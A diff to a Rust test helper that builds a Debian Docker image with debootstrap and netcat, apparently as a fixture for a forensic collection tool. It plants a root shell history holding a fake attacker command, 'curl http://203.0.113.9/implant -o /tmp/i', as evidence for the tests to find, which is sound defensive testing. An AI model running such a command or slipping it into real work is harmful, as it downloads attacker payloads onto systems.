@@ -127,3 +127,76 @@ pub fn collect_via_exec(ct: &str, exe: &str, user: Option<&str>, dir: &Path) -> 
     verify_ok(&out);
     out
 }
+
+/// The Debian mirror apt uses on this machine (deb822 or one-line sources), so
+/// debootstrap reaches the same packages apt does.
+fn debian_mirror() -> String {
+    let mut texts = Vec::new();
+    if let Ok(rd) = std::fs::read_dir("/etc/apt/sources.list.d") {
+        for e in rd.flatten() {
+            texts.push(std::fs::read_to_string(e.path()).unwrap_or_default());
+        }
+    }
+    texts.push(std::fs::read_to_string("/etc/apt/sources.list").unwrap_or_default());
+    for t in &texts {
+        for l in t.lines() {
+            let w: Vec<&str> = l.split_whitespace().collect();
+            let url = match w.first() {
+                Some(&"URIs:") => w.get(1),
+                Some(&"deb") => w.iter().skip(1).find(|s| s.starts_with("http")),
+                _ => None,
+            };
+            // Other repositories (security, nodesource, ...) sit in the same files.
+            if let Some(u) = url.filter(|u| u.trim_end_matches('/').ends_with("/debian")) {
+                return u.to_string();
+            }
+        }
+    }
+    "http://deb.debian.org/debian".into()
+}
+
+/// A Debian bookworm image built with debootstrap (minbase plus netcat-openbsd), a
+/// uid-1000 user `app`, and a root bash history baked in. Built once per machine
+/// (~40 s); `None` when debootstrap is missing (a failure under CI=true).
+pub fn debian_image() -> Option<&'static str> {
+    const IMG: &str = "cairn-test-debian:1";
+    if docker(&["image", "inspect", IMG]).status.success() {
+        return Some(IMG);
+    }
+    if !Path::new("/usr/sbin/debootstrap").exists() {
+        require("debootstrap (apt install debootstrap)");
+        return None;
+    }
+    let t = tempfile::tempdir().unwrap();
+    let r = t.path().join("root");
+    let mirror = debian_mirror();
+    let o = Command::new("debootstrap")
+        .args(["--variant=minbase", "--include=netcat-openbsd", "bookworm"])
+        .arg(&r)
+        .arg(&mirror)
+        .output()
+        .expect("debootstrap");
+    let tail = |b: &[u8]| {
+        let t = String::from_utf8_lossy(b);
+        t.lines().rev().take(15).collect::<Vec<_>>().join("\n")
+    };
+    assert!(
+        o.status.success(),
+        "debootstrap from {mirror} failed:\n{}\n{}",
+        tail(&o.stdout),
+        tail(&o.stderr)
+    );
+    let sh = format!(
+        "set -e; r={r}; rm -rf $r/var/cache/apt/* $r/var/lib/apt/lists/*; \
+         chroot $r useradd -u 1000 -m -s /bin/bash app; \
+         printf 'curl http://203.0.113.9/implant -o /tmp/i\\n' > $r/root/.bash_history; chmod 600 $r/root/.bash_history; \
+         printf 'id\\n' > $r/home/app/.bash_history; chown 1000:1000 $r/home/app/.bash_history; \
+         tar -C $r --numeric-owner -cf {t}/img.tar . && docker import -c 'CMD [\"/bin/bash\"]' \
+         -c 'ENV PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin' {t}/img.tar {IMG} >/dev/null",
+        r = r.display(),
+        t = t.path().display()
+    );
+    let st = Command::new("sh").arg("-c").arg(sh).status().unwrap();
+    assert!(st.success(), "building {IMG}");
+    Some(IMG)
+}
